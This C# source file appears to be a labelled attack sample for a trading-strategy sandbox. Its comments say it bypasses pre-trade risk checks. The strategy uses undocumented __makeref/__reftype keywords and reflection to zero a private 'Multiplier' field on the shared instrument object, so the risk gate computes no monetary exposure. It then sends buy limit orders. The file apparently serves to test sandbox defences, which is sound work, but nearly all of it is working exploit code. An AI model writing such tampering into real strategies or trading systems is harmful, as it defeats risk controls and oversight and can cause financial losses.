// Abuses: __makeref and FieldInfo.SetValueDirect on a TypedReference: undocumented keywords, own opcodes (mkrefany).
// Harm: sets the private backing field of an init-only property of the shared instrument, so that the gate computes no money.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Reflection;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.MakerefAttack;

public sealed class MakerefStrategy : Strategy
{
    public override void OnBook(in BookEvent bookEvent)
    {
        Instrument instrument = Context.Instrument(bookEvent.Instrument);
        TypedReference reference = __makeref(instrument);
        FieldInfo[] fields = __reftype(reference).GetFields(BindingFlags.Instance | BindingFlags.NonPublic);
        foreach (FieldInfo field in fields)
        {
            if (field.Name.Contains("Multiplier")) { field.SetValue(__refvalue(reference, Instrument), 0L); }
        }

        Act(fields.Length);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
